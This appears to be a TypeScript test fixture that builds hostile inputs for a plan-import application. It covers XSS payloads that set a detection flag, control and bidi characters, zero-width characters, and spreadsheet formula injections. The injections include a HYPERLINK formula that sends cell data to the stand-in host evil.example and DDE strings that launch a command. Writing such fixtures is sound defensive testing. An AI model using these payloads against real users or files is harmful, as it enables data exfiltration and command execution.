/**
 * Text made to hurt whoever shows it: markup and script, `javascript:` URLs, lines of 10 000
 * characters without a break opportunity, control characters, bidi overrides and isolates left
 * open, zero-width characters and spreadsheet formulas. One plan carries all of it (as a CSV an
 * office could upload), and report fields carry the rest (lone surrogates survive only JSON).
 *
 * Every tag carries `data-xss` (or is `<xss>`), and every script sets `window.__xss`: a page that
 * turned any of this into markup shows it as `[data-xss], xss` in its DOM, or as `window.__xss` set.
 */
import { buildCsv } from '../fixtures/build-fixtures.js';

export const XSS = {
  img: `<img data-xss src=x onerror="window.__xss='img'">`,
  script: `<script data-xss>window.__xss='script'</script>`,
  textarea: `</textarea></title></style><b data-xss>粗体</b>`,
  svg: `<svg/data-xss/onload=window.__xss='svg'>`,
  jsUrl: `javascript:window.__xss='href'`,
  entity: `&lt;i data-xss&gt; &amp;amp; &#x3C;`,
} as const;

/** 10 000 characters with no break opportunity (no space, no CJK, no hyphen). */
export const LONG_WORD = 'A'.repeat(5_000) + 'B'.repeat(5_000);
export const LONG_URL = `https://example.gov.cn/${'x'.repeat(9_977)}`;

/**
 * C0 (but TAB, LF, CR), DEL and C1 controls, and the noncharacters U+FFFE and U+FFFF (which no
 * XML part may hold either); ESC [31m is a terminal colour. Not NUL: the importer takes a NUL in
 * 8-bit text for a binary file (and says so); NUL comes through JSON.
 */
export const CONTROLS =
  '\u0001\u0007\u0008\u000b\u000c\u001b[31m\u001f\u007f\u0080\u0085\u009b\u009f\ufffe\uffff';
export const NUL = '\u0000';

export const RLO = '\u202e';
export const RLI = '\u2067';
/** Overrides, embeddings and isolates left open, marks, and right-to-left script. */
export const BIDI = `${RLO}右至左${'\u202b'}嵌入${'\u2067'}隔离${'\u2068'}${'\u200f'}${'\u061c'} שלום مرحبا`;

export const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff';

export const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
  dde: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
} as const;

/** Lone surrogates: not encodable as UTF-8, so only a JSON string (`"\ud800"`) can carry them. */
export const LONE_SURROGATES = 'a\ud800b\udfffc';

/** Every kind of hostile text but the long line, in one string (fits a 2 000-character field). */
export const EVERY_KIND = [
  XSS.img,
  XSS.script,
  XSS.textarea,
  XSS.svg,
  XSS.jsUrl,
  XSS.entity,
  CONTROLS,
  NUL,
  LONE_SURROGATES,
  BIDI,
  ZERO_WIDTH,
  FORMULAS.hyperlink,
].join(' ');

/** …and a 10 000-character line after it. */
export const EVERYTHING = `${EVERY_KIND} ${LONG_WORD}`;

/**
 * Units named by the plan: one with markup (the importer splits unit lists on "/" and spaces,
 * so the tag is a bare `<xss>`, looked for as an element too), one with an override left open.
 */
export const HOSTILE_UNITS = {
  markup: `<xss>县财政局`,
  bidi: `${RLO}县审计局`,
} as const;

export const PLAN_TITLE = `三门县${XSS.img}2022年改革库${RLO}`;

/** Rows of the plan: the header, then six items, each hostile in its own way. */
export function hostilePlanRows(): string[][] {
  return [
    [PLAN_TITLE],
    ['序号', '改革事项', '改革举措', '主要目标', '标志性成果', '责任单位'],
    [
      '1*',
      `${XSS.img}农户资产池${XSS.script}`,
      `1.${XSS.textarea}\n2.${XSS.jsUrl}\n3.${XSS.entity}`,
      `2022年9月底前，完成${XSS.svg}试点；\n2022年12月底前，融资达15亿元以上。`,
      `${XSS.img}成果`,
      `县农业农村局、${HOSTILE_UNITS.markup}`,
    ],
    [
      '2',
      `数字化改革${LONG_WORD}`,
      `1.访问${LONG_URL}\n2.${LONG_WORD}`,
      `2022年6月底前，上线${LONG_WORD}。`,
      LONG_URL,
      '县金融中心',
    ],
    [
      '3',
      `控制字符${CONTROLS}事项`,
      `1.举措${CONTROLS}一`,
      `2022年6月底前，完成${CONTROLS}清理。`,
      `成果${CONTROLS}`,
      '县金融中心',
    ],
    [
      '4*',
      `${RLO}反向标题 abc`,
      `1.${BIDI}`,
      `2022年10月底前，${RLI}完成 שלום 任务。`,
      `${RLO}成果`,
      `${HOSTILE_UNITS.bidi}、县农业农村局`,
    ],
    [
      '5',
      `零${ZERO_WIDTH}宽${ZERO_WIDTH}字符`,
      `1.举${ZERO_WIDTH}措`,
      `2022年11月底前，完成零${ZERO_WIDTH}宽。`,
      `成${ZERO_WIDTH}果`,
      '县金融中心',
    ],
    [
      '6',
      FORMULAS.hyperlink,
      `${FORMULAS.dde}\n${FORMULAS.at}`,
      `2022年12月底前，${FORMULAS.minus}。`,
      FORMULAS.minus,
      `${HOSTILE_UNITS.markup}`,
    ],
  ];
}

/** The plan as a UTF-8 CSV, the way an office would upload it. */
export function hostilePlanCsv(): Uint8Array {
  return buildCsv(hostilePlanRows(), { encoding: 'utf8' });
}

/**
 * XML 1.0's `Char` production: what a well-formed part may hold. Everything else (most C0
 * controls, lone surrogates, U+FFFE, U+FFFF) must not reach a .docx or .xlsx.
 */
export const NOT_XML_CHAR = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;
